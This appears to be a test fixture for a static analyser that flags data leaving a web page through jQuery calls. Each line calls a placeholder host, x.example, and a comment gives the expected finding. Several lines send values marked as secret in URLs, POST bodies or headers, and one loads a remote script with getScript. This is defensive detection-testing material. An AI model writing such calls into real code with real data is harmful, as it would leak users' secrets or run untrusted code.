import jQuery from "jquery";

jQuery("#a").html(`<img src="https://x.example/?${source()}">`); // row: egress image GET external https://x.example/? https://x.example/?{} <- secret url
jQuery("#a").append("<p>nothing</p>");
jQuery("#a").prepend('<iframe src="https://x.example/"></iframe>'); // row: egress frame GET external https://x.example/
jQuery("#a").before('<img src="https://x.example/">'); // row: egress image GET external https://x.example/
jQuery("#a").after('<img src="https://x.example/">'); // row: egress image GET external https://x.example/
jQuery("#a").replaceWith('<img src="https://x.example/">'); // row: egress image GET external https://x.example/

export async function requests() {
  jQuery.ajax({ url: "https://x.example/", type: "POST", data: source(), headers: source(), success: (answer) => sink(answer) }); // row: egress fetch POST external https://x.example/ <- secret body, secret header; sink
  jQuery.get("https://x.example/", source(), (answer) => sink(answer)); // row: egress fetch GET external https://x.example/ <- secret url; sink
  jQuery.getJSON("https://x.example/", source(), (answer) => sink(answer)); // row: egress fetch GET external https://x.example/ <- secret url; sink
  jQuery.post("https://x.example/", source(), (answer) => sink(answer)); // row: egress fetch POST external https://x.example/ <- secret body; sink
  sink(await jQuery.ajax("https://x.example/"), await jQuery.get("https://x.example/")); // row: egress fetch GET external https://x.example/; egress fetch external https://x.example/; sink
  sink(await jQuery.getJSON("https://x.example/"), await jQuery.post("https://x.example/")); // row: egress fetch GET external https://x.example/; egress fetch POST external https://x.example/; sink
  jQuery.getScript("https://x.example/"); // row: egress script GET external https://x.example/
  jQuery("#a").load("https://x.example/", source()); // row: egress fetch GET external https://x.example/ <- secret body
  sink(jQuery("#a").val()); // row: sink user-input; source user-input form field
  window.$.ajax({ url: "https://x.example/", type: "POST", data: source(), headers: source(), success: (answer) => sink(answer) }); // row: egress fetch POST external https://x.example/ <- secret body, secret header; sink
  window.jQuery.ajax({ url: "https://x.example/" }); // row: egress fetch GET external https://x.example/
}
